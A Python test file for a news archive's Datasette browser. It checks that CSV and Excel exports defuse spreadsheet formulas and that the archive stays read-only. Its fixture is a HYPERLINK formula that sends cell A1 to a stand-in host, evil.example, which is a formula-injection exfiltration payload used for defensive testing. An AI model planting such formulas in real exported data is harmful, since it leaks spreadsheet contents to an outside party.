"""The archive is only read, and what is taken away is text."""

from __future__ import annotations

import csv
import io
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from datasette.app import Datasette

from newsspider.browse import compat
from newsspider.browse.formulas import Harmless
from newsspider.records import Article

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1, "read on")'


async def opened(path: Path, **more: Any) -> Any:
    datasette: Any = Datasette([str(path)], **more)
    await datasette.invoke_startup()
    return datasette


@pytest.mark.parametrize(
    "path", ["articles.csv?_stream=on", "articles.csv?_dl=1", "articles.excel", "articles/1.csv"]
)
async def test_a_headline_is_no_formula_in_csv(make: Any, tmp_path: Path, path: str) -> None:
    maker = make("archive.db")
    maker.add("courier", "x", Article(headline=FORMULA, body=("@SUM(1,", "+2)")))
    maker.end()
    datasette = await opened(tmp_path / "archive.db")
    text = (await datasette.client.get(f"/archive/{path}")).text
    [row] = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert row["headline"] == f"'{FORMULA}"
    assert row["id"] == "1"
    assert not [cell for cell in row.values() if cell.startswith(("=", "@", "+"))]


async def test_a_time_or_number_is_no_formula_either(archive_path: Path) -> None:
    with closing(sqlite3.connect(archive_path)) as db, db:
        db.execute("UPDATE articles SET first_seen_at = ?, dateline_date = ?", (FORMULA, FORMULA))
        db.execute("UPDATE captures SET status = ?", (FORMULA,))
    datasette = await opened(archive_path)
    for table in ("articles", "captures"):
        text = (await datasette.client.get(f"/archive/{table}.excel")).text
        rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        assert rows
        assert not [cell for row in rows for cell in row.values() if cell.startswith("=")]


async def test_json_has_it_as_it_is(make: Any, tmp_path: Path) -> None:
    maker = make("archive.db")
    maker.add("courier", "x", Article(headline=FORMULA, body=("Text.",)))
    maker.end()
    datasette = await opened(tmp_path / "archive.db")
    assert (await datasette.client.get("/archive/articles/1.json?_shape=array")).json()[0][
        "headline"
    ] == FORMULA
    page = (await datasette.client.get("/archive/articles/1")).text
    assert "=HYPERLINK(&#34;https://evil.example/" in page


@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_csv_stays_what_it_was_however_it_comes(size: int) -> None:
    rows = [
        ["id", "text"],
        ["-1", 'a, "b"'],
        ["2", "=1+1"],
        ["3", "x\r\n=y"],
        ["4", ""],
        ["", "\tz"],
        ["5", "ក, ខ"],
    ]
    written = io.StringIO(newline="")
    csv.writer(written).writerows(rows)
    data, table, out = written.getvalue().encode(), Harmless(), b""
    for start in range(0, len(data), size):
        out += table.feed(data[start : start + size], start + size >= len(data))
    rows[2][1], rows[5][1] = "'=1+1", "'\tz"
    assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == rows


async def test_nothing_writes_to_an_archive(archive_path: Path) -> None:
    datasette = await opened(archive_path)
    with pytest.raises(sqlite3.OperationalError, match="readonly"):
        await datasette.databases["archive"].execute_write("DELETE FROM articles")


@pytest.mark.parametrize("name", ["a#b", "a?b", "100%41", "ä b", "it's"])
async def test_a_folder_may_be_called_anything(archive_path: Path, name: str) -> None:
    folder = archive_path.parent / name
    folder.mkdir()
    before = set(archive_path.parent.iterdir())
    datasette = await opened(archive_path.rename(folder / "archive.db"))
    for path in ("front", "articles", "articles.jsonl", "search?q=river"):
        assert (await datasette.client.get(f"/archive/{path}")).status_code == 200, path
    assert set(archive_path.parent.iterdir()) == before - {archive_path}


if not compat.LEGACY:  # 0.65 has no such rights

    async def test_even_root_is_offered_no_writing(archive_path: Path) -> None:
        from datasette.resources import DatabaseResource, TableResource

        datasette = await opened(archive_path)
        datasette.root_enabled = True
        root = {"id": "root"}
        table = TableResource("archive", "articles")
        assert await datasette.allowed(action="view-table", resource=table, actor=root)
        for action in ("insert-row", "update-row", "delete-row", "drop-table"):
            assert not await datasette.allowed(action=action, resource=table, actor=root)
        assert not await datasette.allowed(
            action="create-table", resource=DatabaseResource("archive"), actor=root
        )
